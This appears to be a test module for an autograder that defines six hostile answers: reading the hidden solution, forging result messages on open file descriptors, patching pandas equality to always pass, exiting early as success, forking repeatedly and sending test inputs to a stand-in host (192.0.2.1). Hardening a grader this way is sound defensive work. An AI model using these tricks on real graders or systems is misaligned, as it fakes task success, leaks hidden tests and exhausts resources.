"""Hostile answers: each is tried in every answer of a notebook, and must earn nothing.

They know no exercise by name. tests/attacks/ has many more; these are the ones an instructor asks
about first.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass
from string import Template

from grader.bank.exercise import Answer, Exercise


@dataclass(frozen=True)
class Attack:
    """`tries` says what it tries to do, in a few words."""

    tries: str
    code: str

    def on(self, exercise: Exercise, answer: Answer) -> str:
        """The source of the answer's cell."""
        return Template(textwrap.dedent(self.code).strip("\n")).substitute(
            answer=answer.name,
            inputs=", ".join(answer.inputs),
            exercise=exercise.folder.as_posix(),
        )


ATTACKS = (
    Attack(
        "read the solution file",
        """
        from pathlib import Path

        def $answer($inputs):
            solved = {}
            exec(Path("$exercise", "$answer", "solution.py").read_text(), solved)
            return solved["$answer"]($inputs)
        """,
    ),
    Attack(
        "forge result messages",
        """
        import json
        import os

        def $answer($inputs):
            for number in range(100):
                result = {"kind": "value", "value": [], "failure": None, "changed": []}
                body = json.dumps({"number": number, **result}).encode()
                for fd in range(3, 64):
                    try:
                        os.set_blocking(fd, False)
                        os.write(fd, len(body).to_bytes(8, "big") + body)
                    except OSError:
                        pass
            return []
        """,
    ),
    Attack(
        "patch pandas: all is equal",
        """
        import pandas as pd

        pd.DataFrame.equals = pd.DataFrame.__eq__ = lambda self, other: True
        pd.testing.assert_frame_equal = lambda *tables, **options: None

        def $answer($inputs):
            return pd.DataFrame({"anything": [1]})
        """,
    ),
    Attack(
        "sys.exit(0) as success",
        """
        import sys

        def $answer($inputs):
            sys.exit(0)
        """,
    ),
    Attack(
        "fork and fork again",
        """
        import os
        import time

        def $answer($inputs):
            for _ in range(50):
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
            return "forked"
        """,
    ),
    Attack(
        "send the cases out",
        """
        import socket

        def $answer($inputs):
            with socket.create_connection(("192.0.2.1", 80), timeout=1) as line:
                line.sendall(repr(($inputs,)).encode())
            return "sent"
        """,
    ),
)
